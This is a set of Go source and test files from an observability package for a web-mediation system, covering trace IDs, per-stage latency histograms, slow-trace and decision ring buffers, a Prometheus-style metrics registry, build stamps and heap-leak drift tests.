	if a.Samples != 7 || a.Goroutines.Last != 17 || a.Goroutines.Max != 19 {
		t.Fatalf("merge: %+v", a)
	}
	if a.HeapMonotonic {
		t.Fatal("merged HeapMonotonic must be false when any worker dipped")
	}
	if a.NumGC != 3 || a.HeapSysBytes != 1500 || a.PostWarmupGoroutines != 15 {
		t.Fatalf("merge: %+v", a)
	}
}

func TestVersionStamp(t *testing.T) {
	v := Version()
	if v.Module == "" || v.Go == "" || v.GOMAXPROCS <= 0 {
		t.Fatalf("incomplete stamp: %+v", v)
	}
	if !SameBinary(v, Version()) {
		t.Fatal("a process must match its own stamp")
	}
	other := v
	other.Go = "go0.0"
	if SameBinary(v, other) {
		t.Fatal("different toolchains must not match")
	}
	other = v
	other.GOMAXPROCS = v.GOMAXPROCS + 1
	if !SameBinary(v, other) {
		t.Fatal("GOMAXPROCS must not affect binary identity")
	}
}
