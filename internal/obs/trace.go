// Package obs is the observability substrate of the reproduction:
// trace propagation, a typed metrics registry, a decision-trace ring
// buffer, and a runtime sampler. It depends only on the standard
// library and internal/metrics, so every other layer — core, browser,
// engine, httpd, cluster — can import it without cycles.
//
// The package exists to make the complete-mediation invariant
// inspectable at runtime instead of only assertable in tests: a trace
// minted per engine task is threaded through page loads and carried
// over the wire, so one trace ID links session → HTTP request → batch
// → each audited decision, and the last N decisions stay queryable on
// the gateway's admin host.
package obs

import (
	"fmt"
	"math/rand/v2"
	"sync/atomic"
)

// traceHi/traceLo seed trace-ID uniqueness: a random per-process
// prefix (so IDs from different workers in a cluster never collide)
// and an atomic counter (so IDs within a process are unique and
// cheap — no per-trace entropy read).
var (
	tracePrefix = rand.Uint64()
	traceSeq    atomic.Uint64
)

// Trace is one causal context: a process-unique ID and a span
// counter. It is minted once per engine task (a page load, a script
// run, a workload step), travels with the task's requests as the
// X-Escudo-Trace header value, and stamps every decision the task's
// mediation produces with (ID, next span).
//
// A Trace is cheap by construction — two words of state, IDs derived
// from an atomic counter, spans from an atomic add — so minting one
// per task adds no measurable load to the hot path.
type Trace struct {
	id    string
	spans atomic.Uint64
}

// NewTrace mints a fresh trace with a process-unique ID.
func NewTrace() *Trace {
	n := traceSeq.Add(1)
	return &Trace{id: fmt.Sprintf("%016x-%08x", tracePrefix, n)}
}

// Adopt wraps an existing trace ID (one that arrived over the wire)
// in a Trace whose spans continue locally. Empty IDs yield nil — the
// no-trace state.
func Adopt(id string) *Trace {
	if id == "" {
		return nil
	}
	return &Trace{id: id}
}

// ID returns the trace identifier.
func (t *Trace) ID() string {
	if t == nil {
		return ""
	}
	return t.id
}

// NextSpan reserves and returns the next span number within the
// trace. Spans number the decisions (and other events) of one trace
// in issue order, starting at 1.
func (t *Trace) NextSpan() uint64 {
	if t == nil {
		return 0
	}
	return t.spans.Add(1)
}

// Spans returns how many spans the trace has issued so far.
func (t *Trace) Spans() uint64 {
	if t == nil {
		return 0
	}
	return t.spans.Load()
}
