// Stage timing: latency attribution for the request path. A
// StageClock rides along with one task (a page load, an open-loop
// arrival) and accumulates wall time per pipeline stage — queue wait,
// origin handler, batch authorization, script VM, render, transport
// translation — so a slow request can say *where* it was slow, not
// just that it was. A StageSet folds finished clocks into per-stage
// registry histograms (`escudo_stage_seconds{stage=...}` on /varz),
// and a SlowRing retains the slowest N tasks per phase as exemplars
// keyed by trace ID, so every reported tail percentile is one /tracez
// query away from a causal explanation.
//
// Invariant 9 lives here by construction: nothing in this file sees a
// Decision. Timing observes durations around the pipeline; it can
// never change a verdict or a batch count.
package obs

import (
	"sync"
	"sync/atomic"
	"time"
)

// Stage names one segment of the request path. The set is fixed and
// small on purpose: a fixed-size array indexed by Stage is the whole
// per-task accumulator, so recording a span is one atomic add.
type Stage uint8

const (
	// StageQueueWait is gateway time between enqueue on a vhost's
	// bounded queue and pickup by a worker.
	StageQueueWait Stage = iota
	// StageHandler is the origin handler's round-trip as seen by the
	// gateway worker.
	StageHandler
	// StageBatchAuth is reference-monitor time: Authorize and
	// AuthorizeBatch through the composed pipeline, cache probes and
	// audit recording included.
	StageBatchAuth
	// StageScriptVM is compiled-script execution time.
	StageScriptVM
	// StageRender is layout/render time (hidden layout during load and
	// explicit RenderText).
	StageRender
	// StageTranslate is gateway transport translation: net/http
	// request to web.Request and web.Response back onto the wire.
	StageTranslate

	// NumStages bounds the enum; arrays of per-stage state are
	// [NumStages]T.
	NumStages
)

// stageNames are the label values used on /varz and in JSON — keep
// them stable, dashboards key on them.
var stageNames = [NumStages]string{
	"queue_wait",
	"handler",
	"batch_auth",
	"script_vm",
	"render",
	"translate",
}

// String returns the stable label value for the stage.
func (s Stage) String() string {
	if s >= NumStages {
		return "unknown"
	}
	return stageNames[s]
}

// StageNames returns the label values in Stage order.
func StageNames() [NumStages]string { return stageNames }

// StageClock accumulates per-stage wall time for one task. It is
// shared between goroutines (the browser's load path and, in
// principle, anything else observing the same task), so spans land
// via atomic adds; Add on a nil clock is a no-op, which keeps the
// call sites branch-free when timing is disabled.
//
// A clock is reusable: Reset between tasks, no per-task allocation.
type StageClock struct {
	ns [NumStages]atomic.Int64
}

// NewStageClock returns a zeroed clock.
func NewStageClock() *StageClock { return &StageClock{} }

// Add accrues d against stage s. Nil-safe and allocation-free.
func (c *StageClock) Add(s Stage, d time.Duration) {
	if c == nil || s >= NumStages {
		return
	}
	c.ns[s].Add(int64(d))
}

// Nanos returns the accumulated nanoseconds for stage s.
func (c *StageClock) Nanos(s Stage) int64 {
	if c == nil || s >= NumStages {
		return 0
	}
	return c.ns[s].Load()
}

// Snapshot copies the accumulated nanoseconds per stage.
func (c *StageClock) Snapshot() [NumStages]int64 {
	var out [NumStages]int64
	if c == nil {
		return out
	}
	for i := range out {
		out[i] = c.ns[i].Load()
	}
	return out
}

// Total sums all stages. Spans can nest — batch-authorization time
// accrues inside script and render spans when a script or layout
// traversal queries the monitor — so the sum is an attribution
// measure, not a partition of wall time.
func (c *StageClock) Total() time.Duration {
	var t int64
	if c == nil {
		return 0
	}
	for i := range c.ns {
		t += c.ns[i].Load()
	}
	return time.Duration(t)
}

// Reset zeroes the clock for reuse.
func (c *StageClock) Reset() {
	if c == nil {
		return
	}
	for i := range c.ns {
		c.ns[i].Store(0)
	}
}

// StageSet is the sink finished clocks fold into: one registry
// histogram per stage, named escudo_stage_seconds with a stage label,
// so /varz exposes p50/p99 per stage and the mergeable snapshots feed
// the BENCH slo section. Construction registers the histograms;
// recording is lock-per-histogram with zero allocations on the warm
// path (the underlying metrics.Histogram grows its bucket slice
// once).
type StageSet struct {
	hists [NumStages]*Hist
}

// NewStageSet registers the per-stage histograms on reg.
func NewStageSet(reg *Registry) *StageSet {
	s := &StageSet{}
	for i := Stage(0); i < NumStages; i++ {
		s.hists[i] = reg.Histogram("escudo_stage_seconds", L("stage", i.String()))
	}
	return s
}

// Record folds a finished clock into the per-stage histograms. Stages
// the task never touched (zero nanoseconds) are skipped so in-memory
// runs don't flood the gateway-only stages with zeros. Nil-safe on
// both receiver and clock.
func (s *StageSet) Record(c *StageClock) {
	if s == nil || c == nil {
		return
	}
	for i := range c.ns {
		if ns := c.ns[i].Load(); ns > 0 {
			s.hists[i].Observe(time.Duration(ns))
		}
	}
}

// Observe records a single span directly, for paths (the gateway)
// that measure per-request stages without a per-task clock. Nil-safe.
func (s *StageSet) Observe(st Stage, d time.Duration) {
	if s == nil || st >= NumStages || d <= 0 {
		return
	}
	s.hists[st].Observe(d)
}

// Hist exposes the underlying registry histogram for stage st (nil if
// the set is nil) — the mergeable snapshot feeds BENCH sections.
func (s *StageSet) Hist(st Stage) *Hist {
	if s == nil || st >= NumStages {
		return nil
	}
	return s.hists[st]
}

// SlowExemplar is one retained slow task: its trace ID (joinable
// against /tracez and the decision ring), the phase that produced it,
// total latency, and the per-stage breakdown.
type SlowExemplar struct {
	TraceID string           `json:"trace_id"`
	Phase   string           `json:"phase"`
	TotalNs int64            `json:"total_ns"`
	Stages  map[string]int64 `json:"stages_ns,omitempty"`
}

// slowEntry is the internal, allocation-lean form: the stage map is
// materialized only at snapshot time.
type slowEntry struct {
	traceID string
	totalNs int64
	stages  [NumStages]int64
}

// DefaultSlowRingSize is the per-phase exemplar retention: the
// slowest 8 tasks per phase. Small on purpose — exemplars answer
// "show me one real slow trace", not "show me the distribution" (the
// histograms do that).
const DefaultSlowRingSize = 8

// SlowRing retains the slowest-N tasks per phase. Record is cheap to
// reject: a task faster than the phase's current floor takes the
// mutex, compares, and returns without allocating — the common case
// once the ring is warm. Snapshot returns exemplars sorted slowest
// first.
type SlowRing struct {
	mu     sync.Mutex
	size   int
	phases map[string][]slowEntry // each ascending by totalNs
}

// NewSlowRing returns a ring retaining the slowest n tasks per phase
// (DefaultSlowRingSize if n <= 0).
func NewSlowRing(n int) *SlowRing {
	if n <= 0 {
		n = DefaultSlowRingSize
	}
	return &SlowRing{size: n, phases: map[string][]slowEntry{}}
}

// Record offers one finished task. Tasks without a trace ID are
// dropped — an exemplar that can't be joined against /tracez is
// noise, not evidence. Tasks without a phase label are dropped too:
// they come from un-phased warmup pools (deliberately unmeasured),
// and an exemplar no ?phase= filter can select is equally useless.
func (r *SlowRing) Record(phase, traceID string, total time.Duration, stages [NumStages]int64) {
	if r == nil || traceID == "" || phase == "" {
		return
	}
	ns := int64(total)
	r.mu.Lock()
	defer r.mu.Unlock()
	entries := r.phases[phase]
	if len(entries) >= r.size && ns <= entries[0].totalNs {
		return // faster than the floor: reject without touching the ring
	}
	e := slowEntry{traceID: traceID, totalNs: ns, stages: stages}
	if len(entries) >= r.size {
		entries = entries[1:] // evict the floor
	}
	// Insert keeping ascending order; N is small, linear is fine.
	i := len(entries)
	entries = append(entries, slowEntry{})
	for i > 0 && entries[i-1].totalNs > ns {
		entries[i] = entries[i-1]
		i--
	}
	entries[i] = e
	r.phases[phase] = entries
}

// Floor returns the phase's current admission threshold: the fastest
// retained exemplar's total (0 until the ring is full).
func (r *SlowRing) Floor(phase string) time.Duration {
	if r == nil {
		return 0
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	entries := r.phases[phase]
	if len(entries) < r.size {
		return 0
	}
	return time.Duration(entries[0].totalNs)
}

// Snapshot returns the retained exemplars, slowest first. With a
// non-empty phase only that phase's entries are returned; with ""
// all phases are merged (still slowest first).
func (r *SlowRing) Snapshot(phase string) []SlowExemplar {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	var out []SlowExemplar
	emit := func(name string, entries []slowEntry) {
		for _, e := range entries {
			ex := SlowExemplar{
				TraceID: e.traceID,
				Phase:   name,
				TotalNs: e.totalNs,
				Stages:  map[string]int64{},
			}
			for i, ns := range e.stages {
				if ns > 0 {
					ex.Stages[stageNames[i]] = ns
				}
			}
			out = append(out, ex)
		}
	}
	if phase != "" {
		emit(phase, r.phases[phase])
	} else {
		for name, entries := range r.phases {
			emit(name, entries)
		}
	}
	r.mu.Unlock()
	// Slowest first for humans; insertion order inside the ring is
	// fastest-first.
	for i := 1; i < len(out); i++ {
		for j := i; j > 0 && out[j-1].TotalNs < out[j].TotalNs; j-- {
			out[j-1], out[j] = out[j], out[j-1]
		}
	}
	return out
}

// Size returns the per-phase retention (slowest-N).
func (r *SlowRing) Size() int {
	if r == nil {
		return 0
	}
	return r.size
}

// Phases returns the phase names with retained exemplars.
func (r *SlowRing) Phases() []string {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	names := make([]string, 0, len(r.phases))
	for name := range r.phases {
		names = append(names, name)
	}
	return names
}
