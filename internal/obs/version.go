package obs

import (
	"runtime"
	"runtime/debug"
	"sync"
)

// Stamp identifies the binary behind a health or metrics response:
// module version, go toolchain, and the GOMAXPROCS it runs with. The
// cluster supervisor cross-checks that every worker shard reports the
// same Module+Go pair, catching a stale binary in a mixed fleet.
type Stamp struct {
	Module     string `json:"module"`
	Go         string `json:"go"`
	GOMAXPROCS int    `json:"gomaxprocs"`
}

var (
	stampOnce sync.Once
	stamp     Stamp
)

// Version returns the process's build stamp. The module version comes
// from the build info when the binary was built from a tagged module
// ("(devel)" or empty under plain `go build`/`go test` — normalized to
// "devel" so the field is never blank).
func Version() Stamp {
	stampOnce.Do(func() {
		stamp = Stamp{Module: "devel", Go: runtime.Version(), GOMAXPROCS: runtime.GOMAXPROCS(0)}
		if bi, ok := debug.ReadBuildInfo(); ok && bi.Main.Version != "" && bi.Main.Version != "(devel)" {
			stamp.Module = bi.Main.Version
		}
	})
	return stamp
}

// SameBinary reports whether two stamps came from the same build —
// the supervisor's version cross-check. GOMAXPROCS is deliberately
// excluded: workers may legitimately run with different parallelism.
func SameBinary(a, b Stamp) bool {
	return a.Module == b.Module && a.Go == b.Go
}
