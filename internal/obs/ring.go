package obs

import "sync"

// DecisionEvent is one audited decision flattened into plain fields —
// no core types, so the ring can live below core in the import graph.
// The WithObs pipeline layer builds these from core.Decisions.
type DecisionEvent struct {
	// TraceID/Span place the decision in its causal trace; empty/zero
	// when the decision happened outside any traced task.
	TraceID string `json:"trace_id"`
	Span    uint64 `json:"span"`
	// Seq is the ring's own monotone sequence number, so a reader can
	// tell how much history the snapshot spans and whether events were
	// dropped between polls.
	Seq uint64 `json:"seq"`
	// Origin is the object's origin; Ring the object's protection
	// ring — the filterable dimensions of /tracez.
	Origin string `json:"origin"`
	Ring   int    `json:"ring"`
	// Gen is the policy generation the deciding page load was pinned
	// to; zero when no control plane stamped the decision.
	Gen uint64 `json:"gen,omitempty"`
	// Allowed and Rule are the verdict.
	Allowed bool   `json:"allowed"`
	Rule    string `json:"rule"`
	// Principal, Op, Object render the ⟨P ⊳ O⟩ triple for display.
	Principal string `json:"principal"`
	Op        string `json:"op"`
	Object    string `json:"object"`
}

// DecisionRing keeps the last N decision events for the admin /tracez
// endpoint. Recording overwrites the oldest entry; snapshots return
// events oldest-first. It is safe for concurrent use — Record takes
// one mutex and copies one struct, cheap enough for the audit path,
// and readers are rare (admin polls).
type DecisionRing struct {
	mu   sync.Mutex
	buf  []DecisionEvent
	next uint64 // total events ever recorded
}

// DefaultRingSize is the decision-history depth when NewDecisionRing
// is given n <= 0.
const DefaultRingSize = 4096

// NewDecisionRing returns a ring holding the last n events.
func NewDecisionRing(n int) *DecisionRing {
	if n <= 0 {
		n = DefaultRingSize
	}
	return &DecisionRing{buf: make([]DecisionEvent, n)}
}

// Record appends one event, overwriting the oldest when full.
func (r *DecisionRing) Record(e DecisionEvent) {
	r.mu.Lock()
	r.next++
	e.Seq = r.next
	r.buf[(r.next-1)%uint64(len(r.buf))] = e
	r.mu.Unlock()
}

// Len returns how many events the ring currently holds.
func (r *DecisionRing) Len() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.next < uint64(len(r.buf)) {
		return int(r.next)
	}
	return len(r.buf)
}

// Total returns how many events have ever been recorded (the ring
// holds the last min(Total, size) of them).
func (r *DecisionRing) Total() uint64 {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.next
}

// RingFilter selects events from a snapshot. Zero values match
// everything; Verdict is "allow", "deny", or "" for both.
type RingFilter struct {
	TraceID string
	Origin  string
	Verdict string
	// Ring filters by object ring when >= 0; pass -1 for any.
	Ring int
}

// MatchAny is the filter that keeps every event.
var MatchAny = RingFilter{Ring: -1}

// matches reports whether e passes the filter.
func (f RingFilter) matches(e DecisionEvent) bool {
	if f.TraceID != "" && e.TraceID != f.TraceID {
		return false
	}
	if f.Origin != "" && e.Origin != f.Origin {
		return false
	}
	if f.Ring >= 0 && e.Ring != f.Ring {
		return false
	}
	switch f.Verdict {
	case "allow":
		return e.Allowed
	case "deny":
		return !e.Allowed
	}
	return true
}

// Snapshot returns the retained events passing the filter, oldest
// first.
func (r *DecisionRing) Snapshot(f RingFilter) []DecisionEvent {
	r.mu.Lock()
	defer r.mu.Unlock()
	size := uint64(len(r.buf))
	n := r.next
	start := uint64(0)
	if n > size {
		start = n - size
	}
	var out []DecisionEvent
	for seq := start; seq < n; seq++ {
		e := r.buf[seq%size]
		if f.matches(e) {
			out = append(out, e)
		}
	}
	return out
}
