package obs

import (
	"testing"
	"time"
)

// syntheticStats builds a SamplerStats whose heap series follows gen.
func syntheticStats(n int, strideMs float64, gen func(i int) int64) SamplerStats {
	s := SamplerStats{SeriesStrideMs: strideMs}
	for i := 0; i < n; i++ {
		s.HeapSeries = append(s.HeapSeries, gen(i))
	}
	return s
}

func TestDriftVerdictFiresOnLinearGrowth(t *testing.T) {
	// 64 points, 200ms apart (12.6s window), 2 MiB growth per point
	// from a 16 MiB base: unambiguous leak shape.
	s := syntheticStats(64, 200, func(i int) int64 {
		return 16<<20 + int64(i)*(2<<20)
	})
	d := s.ComputeDrift()
	if d == nil {
		t.Fatal("ComputeDrift returned nil for a long leaking series")
	}
	if !d.Suspected {
		t.Fatalf("leak not suspected: %+v", d)
	}
	if d.SlopeBytesPerSec < float64(1<<20) {
		t.Fatalf("slope %f too small for 2MiB/200ms growth", d.SlopeBytesPerSec)
	}
	if d.Points != 64 {
		t.Fatalf("points = %d, want 64", d.Points)
	}
}

func TestDriftVerdictCleanOnOscillation(t *testing.T) {
	// GC-shaped sawtooth around a stable mean: heap climbs then drops
	// every 8 samples. No net drift, verdict must stay clean.
	s := syntheticStats(64, 200, func(i int) int64 {
		return 64<<20 + int64(i%8)*(4<<20)
	})
	d := s.ComputeDrift()
	if d == nil {
		t.Fatal("ComputeDrift returned nil for a long steady series")
	}
	if d.Suspected {
		t.Fatalf("steady sawtooth flagged as leak: %+v", d)
	}
	if d.GrowthFraction > driftMinFraction {
		t.Fatalf("growth fraction %f exceeds threshold on a sawtooth", d.GrowthFraction)
	}
}

func TestDriftVerdictRequiresAbsoluteGrowth(t *testing.T) {
	// Steep relative growth on a tiny heap (1 KiB -> ~64 KiB): large
	// fraction, negligible bytes. The absolute floor keeps it clean.
	s := syntheticStats(64, 200, func(i int) int64 {
		return 1<<10 + int64(i)*(1<<10)
	})
	d := s.ComputeDrift()
	if d == nil {
		t.Fatal("ComputeDrift returned nil")
	}
	if d.Suspected {
		t.Fatalf("sub-threshold absolute growth flagged as leak: %+v", d)
	}
}

func TestDriftNilWhenSeriesTooShort(t *testing.T) {
	short := syntheticStats(driftMinPoints-1, 200, func(i int) int64 { return 1 << 20 })
	if d := short.ComputeDrift(); d != nil {
		t.Fatalf("drift computed from %d points: %+v", driftMinPoints-1, d)
	}
	// Enough points but a sub-5s window.
	narrow := syntheticStats(16, 10, func(i int) int64 { return 1 << 20 })
	if d := narrow.ComputeDrift(); d != nil {
		t.Fatalf("drift computed from a %.1fs window: %+v", narrow.SeriesStrideMs/1e3*15, d)
	}
}

func TestDriftMergeSumsSlopesAndORsVerdict(t *testing.T) {
	clean := SamplerStats{
		HeapMonotonic: true,
		Drift:         &DriftReport{SlopeBytesPerSec: 100, WindowSec: 10, Points: 50},
		HeapSeries:    []int64{1, 2, 3},
	}
	leaky := SamplerStats{
		HeapMonotonic: true,
		Drift: &DriftReport{
			SlopeBytesPerSec: 5 << 20, GrowthFraction: 1.5,
			WindowSec: 12, Points: 60, Suspected: true,
		},
	}
	clean.Merge(leaky)
	if clean.Drift == nil || !clean.Drift.Suspected {
		t.Fatalf("merged verdict lost the leaking worker: %+v", clean.Drift)
	}
	if got, want := clean.Drift.SlopeBytesPerSec, float64(100+5<<20); got != want {
		t.Fatalf("merged slope = %f, want %f", got, want)
	}
	if clean.Drift.WindowSec != 12 || clean.Drift.Points != 110 {
		t.Fatalf("merged window/points = %f/%d", clean.Drift.WindowSec, clean.Drift.Points)
	}
	if clean.HeapSeries != nil || clean.SeriesStrideMs != 0 {
		t.Fatal("merge must drop per-process series")
	}

	// A merge with no drift on either side stays nil.
	a, b := SamplerStats{HeapMonotonic: true}, SamplerStats{HeapMonotonic: true}
	a.Merge(b)
	if a.Drift != nil {
		t.Fatalf("driftless merge fabricated a report: %+v", a.Drift)
	}
}

func TestSamplerRetainsBoundedSeries(t *testing.T) {
	s := NewSampler(nil, time.Second)
	// Drive Sample directly well past the retention cap: the series
	// must stay bounded, stay aligned, and the stride must double.
	for i := 0; i < maxRetainedSamples*2+10; i++ {
		s.Sample()
	}
	st := s.Stats()
	if len(st.HeapSeries) == 0 || len(st.HeapSeries) > maxRetainedSamples {
		t.Fatalf("retained %d heap points, want 1..%d", len(st.HeapSeries), maxRetainedSamples)
	}
	if len(st.GoroutineSeries) != len(st.HeapSeries) || len(st.HeapSysSeries) != len(st.HeapSeries) {
		t.Fatalf("series misaligned: heap=%d goroutines=%d sys=%d",
			len(st.HeapSeries), len(st.GoroutineSeries), len(st.HeapSysSeries))
	}
	if st.SeriesStrideMs <= st.IntervalMs {
		t.Fatalf("stride %f never doubled past interval %f", st.SeriesStrideMs, st.IntervalMs)
	}
	// The snapshot must be isolated from further sampling.
	before := append([]int64(nil), st.HeapSeries...)
	for i := 0; i < 16; i++ {
		s.Sample()
	}
	for i := range before {
		if st.HeapSeries[i] != before[i] {
			t.Fatal("Stats snapshot shares backing array with live series")
		}
	}
}

func TestSamplerStopComputesDrift(t *testing.T) {
	s := NewSampler(nil, time.Millisecond)
	s.Start()
	// Synthesize enough samples for a fit window regardless of timer
	// behavior under load; real elapsed time is irrelevant because the
	// fit uses the nominal stride.
	for i := 0; i < driftMinPoints+8; i++ {
		s.Sample()
	}
	st := s.Stop()
	if st.Samples == 0 {
		t.Fatal("no samples recorded")
	}
	// With a 1ms stride the window is far below driftMinWindowSec, so
	// the verdict must abstain (nil) rather than guess.
	if st.Drift != nil {
		t.Fatalf("sub-window drift report: %+v", st.Drift)
	}
}

func TestHalveSeriesKeepsFirstPoint(t *testing.T) {
	v := halveSeries([]int64{10, 11, 12, 13, 14})
	want := []int64{10, 12, 14}
	if len(v) != len(want) {
		t.Fatalf("len = %d, want %d", len(v), len(want))
	}
	for i := range want {
		if v[i] != want[i] {
			t.Fatalf("halved[%d] = %d, want %d", i, v[i], want[i])
		}
	}
}
