package obs

import (
	"fmt"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/metrics"
)

// The registry replaces the hand-rolled counter structs scattered
// across httpd, engine, and cluster with typed handles registered by
// name and label set. Registration is setup-time work (it takes a
// lock and allocates); recording through a handle is the hot path and
// must stay allocation-free — Counter.Add and Gauge.Set are single
// atomics, Hist.Observe folds into a full-capacity bucket slice under
// a mutex. The AllocsPerRun gates in registry_test pin all three at
// zero.

// Label is one name=value dimension of a metric.
type Label struct {
	Key   string
	Value string
}

// L is shorthand for building a Label.
func L(key, value string) Label { return Label{Key: key, Value: value} }

// Counter is a monotonically increasing counter handle.
type Counter struct {
	v atomic.Uint64
}

// Add increments the counter by n.
func (c *Counter) Add(n uint64) { c.v.Add(n) }

// Inc increments the counter by one.
func (c *Counter) Inc() { c.v.Add(1) }

// Value returns the current count.
func (c *Counter) Value() uint64 { return c.v.Load() }

// Gauge is a set-to-current-value gauge handle (goroutine counts,
// heap bytes, queue depths).
type Gauge struct {
	v atomic.Int64
}

// Set stores the gauge's current value.
func (g *Gauge) Set(v int64) { g.v.Store(v) }

// Add moves the gauge by delta.
func (g *Gauge) Add(delta int64) { g.v.Add(delta) }

// Value returns the gauge's current value.
func (g *Gauge) Value() int64 { return g.v.Load() }

// Hist is a histogram handle over the mergeable metrics.Histogram.
// Observe is mutex-guarded (the underlying counts are not atomic) but
// allocation-free once warm — metrics.Histogram grows to full
// capacity on first need.
type Hist struct {
	mu sync.Mutex
	h  metrics.Histogram
}

// Observe records one duration.
func (h *Hist) Observe(d time.Duration) {
	h.mu.Lock()
	h.h.Observe(d)
	h.mu.Unlock()
}

// Snapshot copies the underlying histogram for merging or quantiles.
func (h *Hist) Snapshot() metrics.Histogram {
	h.mu.Lock()
	defer h.mu.Unlock()
	return metrics.Histogram{Counts: append([]uint64(nil), h.h.Counts...)}
}

// metricKind tags a registry entry.
type metricKind int

const (
	kindCounter metricKind = iota + 1
	kindGauge
	kindHist
)

// entry is one registered metric: its identity and its handle.
type entry struct {
	name   string
	labels string // rendered {k="v",...} suffix, "" when unlabeled
	kind   metricKind

	counter *Counter
	gauge   *Gauge
	hist    *Hist
}

// Registry holds typed metric handles registered by name + label set.
// Re-registering the same (name, labels) returns the existing handle,
// so packages can register idempotently. The zero value is NOT ready;
// use NewRegistry.
type Registry struct {
	mu      sync.RWMutex
	order   []string // registration order of keys, for stable exposition
	entries map[string]*entry
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{entries: map[string]*entry{}}
}

// renderLabels builds the canonical {k="v",...} suffix; labels are
// sorted by key so the same set always yields the same identity.
func renderLabels(labels []Label) string {
	if len(labels) == 0 {
		return ""
	}
	ls := append([]Label(nil), labels...)
	sort.Slice(ls, func(a, b int) bool { return ls[a].Key < ls[b].Key })
	var b strings.Builder
	b.WriteByte('{')
	for i, l := range ls {
		if i > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, "%s=%q", l.Key, l.Value)
	}
	b.WriteByte('}')
	return b.String()
}

// lookup returns the entry for (name, labels), creating it with mk on
// first registration. Kind mismatches panic: registering one name as
// both a counter and a gauge is a programming error, caught loudly at
// setup time rather than silently skewing exposition.
func (r *Registry) lookup(name string, labels []Label, kind metricKind, mk func() *entry) *entry {
	key := name + renderLabels(labels)
	r.mu.RLock()
	e, ok := r.entries[key]
	r.mu.RUnlock()
	if ok {
		if e.kind != kind {
			panic(fmt.Sprintf("obs: metric %s re-registered with a different type", key))
		}
		return e
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	if e, ok := r.entries[key]; ok {
		if e.kind != kind {
			panic(fmt.Sprintf("obs: metric %s re-registered with a different type", key))
		}
		return e
	}
	e = mk()
	e.name = name
	e.labels = renderLabels(labels)
	e.kind = kind
	r.entries[key] = e
	r.order = append(r.order, key)
	return e
}

// Counter registers (or finds) a counter by name and labels.
func (r *Registry) Counter(name string, labels ...Label) *Counter {
	e := r.lookup(name, labels, kindCounter, func() *entry { return &entry{counter: &Counter{}} })
	return e.counter
}

// Gauge registers (or finds) a gauge by name and labels.
func (r *Registry) Gauge(name string, labels ...Label) *Gauge {
	e := r.lookup(name, labels, kindGauge, func() *entry { return &entry{gauge: &Gauge{}} })
	return e.gauge
}

// Histogram registers (or finds) a histogram by name and labels.
func (r *Registry) Histogram(name string, labels ...Label) *Hist {
	e := r.lookup(name, labels, kindHist, func() *entry { return &entry{hist: &Hist{}} })
	return e.hist
}

// Expose renders the registry in the Prometheus text exposition
// format (version 0.0.4): counters and gauges as single samples,
// histograms as summaries (p50/p99 quantiles plus _count) — the
// quantile arithmetic is the same metrics.Histogram math the BENCH
// reports use, so /varz and BENCH_engine.json can never disagree.
// Entries render in registration order; repeated label sets of one
// name are grouped under a single TYPE header.
func (r *Registry) Expose() string {
	r.mu.RLock()
	defer r.mu.RUnlock()
	var b strings.Builder
	typed := map[string]bool{}
	for _, key := range r.order {
		e := r.entries[key]
		switch e.kind {
		case kindCounter:
			if !typed[e.name] {
				fmt.Fprintf(&b, "# TYPE %s counter\n", e.name)
				typed[e.name] = true
			}
			fmt.Fprintf(&b, "%s%s %d\n", e.name, e.labels, e.counter.Value())
		case kindGauge:
			if !typed[e.name] {
				fmt.Fprintf(&b, "# TYPE %s gauge\n", e.name)
				typed[e.name] = true
			}
			fmt.Fprintf(&b, "%s%s %d\n", e.name, e.labels, e.gauge.Value())
		case kindHist:
			if !typed[e.name] {
				fmt.Fprintf(&b, "# TYPE %s summary\n", e.name)
				typed[e.name] = true
			}
			h := e.hist.Snapshot()
			p50 := h.Quantile(50).Seconds()
			p99 := h.Quantile(99).Seconds()
			fmt.Fprintf(&b, "%s%s %g\n", e.name, quantileLabels(e.labels, "0.5"), p50)
			fmt.Fprintf(&b, "%s%s %g\n", e.name, quantileLabels(e.labels, "0.99"), p99)
			fmt.Fprintf(&b, "%s_count%s %d\n", e.name, e.labels, h.Total())
		}
	}
	return b.String()
}

// quantileLabels splices quantile="q" into a rendered label suffix.
func quantileLabels(labels, q string) string {
	if labels == "" {
		return `{quantile="` + q + `"}`
	}
	return labels[:len(labels)-1] + `,quantile="` + q + `"}`
}

// Snapshot returns the scalar metrics (counters and gauges) as a
// name+labels → value map — the JSON-friendly view tests and the
// BENCH obs section read.
func (r *Registry) Snapshot() map[string]int64 {
	r.mu.RLock()
	defer r.mu.RUnlock()
	out := make(map[string]int64, len(r.entries))
	for key, e := range r.entries {
		switch e.kind {
		case kindCounter:
			out[key] = int64(e.counter.Value())
		case kindGauge:
			out[key] = e.gauge.Value()
		}
	}
	return out
}
