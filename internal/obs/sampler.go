package obs

import (
	"runtime"
	"sync"
	"time"
)

// SeriesInt summarizes one sampled gauge over a run: the first and
// last observations plus the running min/max. It is the shape the
// leak gates read — "goroutines returned to the post-warmup band"
// is Last vs PostWarmup, "heap did not grow monotonically" is the
// Monotonic flag next to the heap series.
type SeriesInt struct {
	First int64 `json:"first"`
	Last  int64 `json:"last"`
	Min   int64 `json:"min"`
	Max   int64 `json:"max"`
}

// observe folds one sample into the series.
func (s *SeriesInt) observe(v int64, first bool) {
	if first {
		s.First, s.Min, s.Max = v, v, v
	}
	s.Last = v
	if v < s.Min {
		s.Min = v
	}
	if v > s.Max {
		s.Max = v
	}
}

// merge folds another worker's series in: Max/Min span the fleet,
// First/Last sum (each process contributes its own goroutines/heap).
func (s *SeriesInt) merge(o SeriesInt) {
	s.First += o.First
	s.Last += o.Last
	s.Min += o.Min
	s.Max += o.Max
}

// SamplerStats is a run's runtime-health summary: the obs section of
// BENCH_engine.json carries one per process, and the cluster
// supervisor merges the workers' into a fleet view.
type SamplerStats struct {
	Samples    int     `json:"samples"`
	IntervalMs float64 `json:"interval_ms"`
	// Goroutines tracks runtime.NumGoroutine.
	Goroutines SeriesInt `json:"goroutines"`
